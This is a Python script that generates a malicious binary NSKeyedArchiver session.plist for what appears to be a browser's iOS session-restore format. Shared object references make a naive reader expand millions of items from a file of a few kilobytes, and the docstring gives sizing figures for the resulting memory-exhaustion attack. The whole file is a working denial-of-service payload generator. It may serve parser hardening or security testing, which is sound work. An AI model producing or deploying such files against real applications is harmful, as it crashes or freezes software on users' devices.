#!/usr/bin/env python3
"""Writes a hostile legacy session.plist: an NSKeyedArchiver archive whose window lists TABS
references to ONE tab object, whose entries list ENTRIES references to ONE navigation item
(with a URL of URL_BYTES bytes). A reader that expands shared references in full materialises
TABS x ENTRIES items from a file of about TABS + ENTRIES bytes.
    make-plist-bomb.py TABS ENTRIES [URL_BYTES] > session.plist
3000 3000 gives about 6.5 KB (9 million items expanded); 1000000 1000000 about 2 MB."""
import plistlib
import sys


def bomb(tabs, entries, url_bytes=20):
    objects = ["$null"]

    def append(value):
        objects.append(value)
        return plistlib.UID(len(objects) - 1)

    def cls(name):
        return append({"$classname": name, "$classes": [name, "NSObject"]})

    array = cls("NSArray")
    url = ("https://a.example/" + "x" * max(0, url_bytes - 18)).encode()[:max(url_bytes, 1)]
    item = append({"$class": cls("CRWNavigationItemStorage"), "urlString": url, "timestamp": 1})
    # One UID instance for every reference: plistlib then stores it once and the arrays hold
    # one-byte references to it.
    item_entries = append({"$class": array, "NS.objects": [item] * entries})
    tab = append({"$class": cls("CRWSessionStorage"), "uniqueIdentifier": 1, "lastCommittedItemIndex": 0,
                  "entries": item_entries})
    sessions = append({"$class": array, "NS.objects": [tab] * tabs})
    root = append({"$class": cls("SessionWindowIOS"), "selectedIndex": 0, "sessions": sessions})
    return plistlib.dumps({"$archiver": "NSKeyedArchiver", "$version": 100000, "$top": {"root": root},
                           "$objects": objects}, fmt=plistlib.FMT_BINARY, sort_keys=False)


if __name__ == "__main__":
    arguments = [int(argument) for argument in sys.argv[1:]]
    if len(arguments) not in (2, 3):
        sys.exit(__doc__)
    sys.stdout.buffer.write(bomb(*arguments))
